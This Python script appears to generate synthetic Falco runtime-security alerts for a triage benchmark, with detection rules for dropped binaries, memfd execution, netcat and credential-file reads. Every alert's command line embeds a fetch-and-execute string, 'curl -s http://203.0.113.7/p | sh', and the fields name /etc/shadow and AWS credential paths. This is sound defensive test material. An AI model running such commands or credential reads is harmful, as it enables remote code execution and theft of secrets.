#!/usr/bin/env python3
"""Writes a large, realistic stream of Falco alerts for the triage benchmark.

The mix follows what a day of Falco output on a busy Docker host looks like: mostly container-plugin
alerts in Falco 0.41+ shape (sorted keys, `evt.time.iso8601`, suggested container fields), some
0.38-style alerts (jsoncpp key order, `output_fields` last, `evt.time`), falcosidekick re-posts
(`uuid` first, `time` with trailing zeros dropped), 0.41+ alerts without `output_fields` but with
`message`, host noise (`container.id` = `host`), plain-text lines, and a few bad lines (truncated JSON,
Falco banners). Deterministic for a given seed.

Usage: generate-alerts.py LINES OUT [SEED] [--shape default|wide] [--clean]

--shape wide: a second, heavier shape and mix: append_output extra fields (proc.pid, container.full_id,
  proc.pcmdline, ancestors, ...) so every alert has 30+ output fields, long command lines, 1000 containers,
  and a mix weighted to drop-and-execute, memfd and sensitive-file rules.
--clean: every line is a JSON alert (no plain-text or bad lines), so a plain `jq -c` reads all of it.
"""

import json
import random
import sys
import uuid

PRIORITIES = ["Critical", "Warning", "Notice", "Informational", "Error"]
FIRST_NS = 1_775_400_000_000_000_000  # a day in April 2026

# (rule, priority, output description, evt.type, exe paths, flags, tags)
RULES = [
    ("Drop and execute new binary in container", "Critical", "Executing binary not part of base image", "execve",
     None, "EXE_WRITABLE|EXE_UPPER_LAYER", ["PCI_DSS_11.5.1", "TA0003", "container", "maturity_stable",
                                            "mitre_persistence", "process"]),
    ("Terminal shell in container", "Notice", "A shell was spawned in a container with an attached terminal",
     "execve", ["/bin/busybox", "/usr/bin/bash", "/bin/dash"], "EXE_WRITABLE|EXE_LOWER_LAYER",
     ["T1059", "container", "maturity_stable", "mitre_execution", "shell"]),
    ("Fileless execution via memfd_create", "Critical", "Fileless execution via memfd_create", "execve",
     ["memfd:program", "memfd:payload"], "EXE_WRITABLE|EXE_FROM_MEMFD",
     ["T1620", "container", "host", "maturity_stable", "mitre_defense_evasion", "process"]),
    ("Execution from /dev/shm", "Warning", "File execution detected from /dev/shm", "execve", ["/bin/busybox"],
     "EXE_WRITABLE|EXE_LOWER_LAYER", ["T1059.004", "container", "host", "maturity_stable", "mitre_execution"]),
    ("Netcat Remote Code Execution in Container", "Warning",
     "Netcat runs inside container that allows remote code execution", "execve", ["/usr/bin/nc"],
     "EXE_WRITABLE|EXE_LOWER_LAYER", ["T1059", "container", "maturity_stable", "mitre_execution", "network"]),
    ("Read sensitive file untrusted", "Warning", "Sensitive file opened for reading by non-trusted program",
     "openat", ["/usr/bin/cat", "/usr/local/bin/app"], None,
     ["T1555", "container", "filesystem", "host", "maturity_stable", "mitre_credential_access"]),
    ("Find AWS Credentials", "Warning", "Detected AWS credentials search activity", "execve", ["/bin/busybox"],
     "EXE_WRITABLE|EXE_LOWER_LAYER", ["T1552", "aws", "container", "host", "maturity_stable"]),
    ("Packet socket created in container", "Notice", "Packet socket was created in a container", "socket",
     ["/usr/sbin/tcpdump"], None, ["T1557.002", "container", "maturity_stable", "network"]),
    ("System user interactive", "Informational", "System user ran an interactive command", "execve",
     ["/bin/busybox"], "EXE_LOWER_LAYER", ["T1059", "host", "container", "maturity_stable", "users"]),
    ("Write Binary Under UsrLocalBin", "Warning", "Falco Custom: File write in /usr/local/bin", "openat",
     None, "O_LARGEFILE|O_TRUNC|O_CREAT|O_WRONLY|O_F_CREATED|FD_UPPER_LAYER", ["compliance", "container", "drift"]),
]

IMAGES = [("nginx", "1.27"), ("redis", "7.4"), ("postgres", "16"), ("alpine", "3.19"),
          ("registry.example.com/payments/api", "2.3.1"), ("falcosecurity/event-generator", "latest")]


def containers(rng, count):
    result = []
    for index in range(count):
        repository, tag = rng.choice(IMAGES)
        name = f"{repository.rsplit('/', 1)[-1]}-{index}"
        if index % 7 == 0:
            name = f"k8s_{repository.rsplit('/', 1)[-1]}_{name}-7d9f_default_{uuid.UUID(int=rng.getrandbits(128))}_0"
        result.append({
            "id": "%012x" % rng.getrandbits(48),
            "name": name,
            "repository": repository,
            "tag": tag,
            "start": FIRST_NS - rng.randrange(10**12, 10**14),
        })
    return result


def iso(ns, suffix="Z", trim=False):
    seconds, nanos = divmod(ns, 10**9)
    import time
    base = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(seconds))
    fraction = "%09d" % nanos
    if trim:
        fraction = fraction.rstrip("0")
        return base + ("." + fraction if fraction else "") + suffix
    return base + "." + fraction + suffix


WIDE = False


def wide_fields(rng, fields, ns, container):
    """append_output extra_fields a responder would add, and longer command lines."""
    pid = rng.randrange(300, 4_000_000)
    fields.update({
        "container.full_id": container["id"] + "%052x" % rng.getrandbits(208),
        "container.image.digest": "sha256:%064x" % rng.getrandbits(256),
        "evt.res": "SUCCESS",
        "fd.name": rng.choice(["/etc/shadow", "/root/.aws/credentials", "/dev/shm/.x", None]),
        "group.gid": 0,
        "proc.aname[3]": "containerd",
        "proc.aname[4]": "systemd",
        "proc.exe_ino": rng.randrange(10**5, 10**8),
        "proc.pcmdline": "sh -c " + " ".join("--opt%d=%x" % (i, rng.getrandbits(32)) for i in range(12)),
        "proc.pid": pid,
        "proc.ppid": pid - rng.randrange(1, 50),
        "proc.sid": pid - 60,
        "proc.vpgid": rng.randrange(1, 100),
        "proc.vpid": rng.randrange(1, 500),
        "user.loginname": "<NA>",
    })
    fields["proc.cmdline"] += " " + " ".join("arg%d=%x" % (i, rng.getrandbits(48)) for i in range(10))


def make_alert(rng, ns, container, rule):
    name, priority, description, evt_type, exes, flags, tags = rule
    if exes is None:
        exe = "/bin/dropped-" + "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(6)) \
            if rng.random() < 0.3 else "/tmp/.cache/x"
    else:
        exe = rng.choice(exes)
    proc_name = exe.rsplit("/", 1)[-1][:15]
    cmdline = f"{proc_name} -c 'curl -s http://203.0.113.7/p | sh' --retry {rng.randrange(1, 9)}"
    fields = {
        "container.id": container["id"],
        "container.image.repository": container["repository"],
        "container.image.tag": container["tag"],
        "container.name": container["name"],
        "container.start_ts": container["start"],
        "evt.time.iso8601": ns,
        "evt.type": evt_type,
        "k8s.ns.name": None,
        "k8s.pod.name": None,
        "proc.aname[2]": "containerd-shim",
        "proc.cmdline": cmdline,
        "proc.cwd": "/",
        "proc.exepath": exe,
        "proc.name": proc_name,
        "proc.pname": "sh",
        "proc.tty": 0,
        "user.loginuid": -1,
        "user.name": "root",
        "user.uid": 0,
    }
    if flags:
        fields["evt.arg.flags"] = flags
    if name.startswith("Drop and execute"):
        fields["proc.exe"] = exe
        fields["proc.exe_ino.ctime"] = ns - rng.randrange(10**6, 10**9)
        fields["proc.exe_ino.mtime"] = fields["proc.exe_ino.ctime"]
        fields["proc.exe_ino.ctime_duration_proc_start"] = rng.randrange(10**6, 10**8)
        fields["proc.sname"] = "sh"
    if name.startswith("Read sensitive"):
        fields["fd.name"] = "/etc/shadow"
    if WIDE:
        wide_fields(rng, fields, ns, container)
    args = " ".join(f"{key.replace('.', '_')}={'<NA>' if value is None else value}"
                    for key, value in fields.items() if not key.startswith("evt.time"))
    output = f"{iso(ns, '+0000')}: {priority} {description} | {args}"
    return {
        "hostname": "falco-7f3a2c",
        "output": output,
        "output_fields": dict(sorted(fields.items())),
        "priority": priority,
        "rule": name,
        "source": "syscall",
        "tags": sorted(tags),
        "time": iso(ns),
    }


def jsoncpp_shape(alert):
    """Falco <=0.38: sorted keys with output_fields spliced on last, evt.time instead of evt.time.iso8601."""
    fields = dict(alert["output_fields"])
    fields["evt.time"] = fields.pop("evt.time.iso8601")
    head = {key: alert[key] for key in sorted(alert) if key != "output_fields"}
    head["output"] = head["output"].replace("+0000: ", ": ", 1)[11:]
    return json.dumps(head, separators=(",", ":"), ensure_ascii=False)[:-1] + \
        ',"output_fields":' + json.dumps(dict(sorted(fields.items())), separators=(",", ":")) + "}"


def sidekick_shape(rng, alert):
    """falcosidekick's webhook re-post: Go struct order, uuid, time with trailing zeros dropped."""
    ns = alert["output_fields"]["evt.time.iso8601"]
    payload = {
        "uuid": str(uuid.UUID(int=rng.getrandbits(128), version=4)),
        "output": alert["output"],
        "priority": alert["priority"],
        "rule": alert["rule"],
        "time": iso(ns, trim=True),
        "output_fields": alert["output_fields"],
        "source": alert["source"],
        "tags": alert["tags"],
        "hostname": alert["hostname"],
    }
    return json.dumps(payload, separators=(",", ":"))


def message_only_shape(alert):
    """Falco 0.41+ with json_include_output_fields_property false and json_include_message_property true."""
    shaped = {key: value for key, value in alert.items() if key != "output_fields"}
    shaped["message"] = alert["output"].split(": ", 1)[1].split(" ", 1)[1]
    return json.dumps(dict(sorted(shaped.items())), separators=(",", ":"))


BAD_LINES = [
    '2026-04-06T15:31:32+0000: Falco version: 0.43.0 (x86_64)',
    'libbpf: prog \'sys_enter\': failed to attach: ERROR: strerror_r(-524)=22',
    '{"hostname":"falco-7f3a2c","output":"truncated',
    '{"rule":"x","priority":"Critical"}',
    'Events detected: 1234',
]


def main():
    global WIDE
    args = [arg for arg in sys.argv[1:] if not arg.startswith("--")]
    shape = sys.argv[sys.argv.index("--shape") + 1] if "--shape" in sys.argv else "default"
    if shape in args:
        args.remove(shape)
    clean = "--clean" in sys.argv
    WIDE = shape == "wide"
    lines, out = int(args[0]), args[1]
    rng = random.Random(int(args[2]) if len(args) > 2 else 42)
    pool = containers(rng, 1000 if WIDE else 200)
    host = {"id": "host", "name": "host", "repository": "", "tag": "", "start": FIRST_NS - 10**13}
    weights = [12, 6, 10, 4, 2, 14, 3, 2, 4, 8] if WIDE else [3, 14, 4, 6, 4, 20, 8, 5, 10, 6]
    ns = FIRST_NS
    with open(out, "w", encoding="utf-8") as stream:
        for _ in range(lines):
            ns += rng.randrange(10**6, 3 * 10**8)
            roll = rng.random()
            if clean and roll < 0.011:
                roll = 0.011 + roll * 10
            if roll < 0.001:
                stream.write(rng.choice(BAD_LINES) + "\n")
                continue
            rule = rng.choices(RULES, weights)[0]
            container = host if (rule[0].startswith("Fileless") and rng.random() < 0.5) else rng.choice(pool)
            alert = make_alert(rng, ns, container, rule)
            if roll < 0.011:
                stream.write(alert["output"] + "\n")
            elif roll < 0.15:
                stream.write(jsoncpp_shape(alert) + "\n")
            elif roll < 0.25:
                stream.write(sidekick_shape(rng, alert) + "\n")
            elif roll < 0.30:
                stream.write(message_only_shape(alert) + "\n")
            else:
                stream.write(json.dumps(alert, separators=(",", ":")) + "\n")


if __name__ == "__main__":
    main()
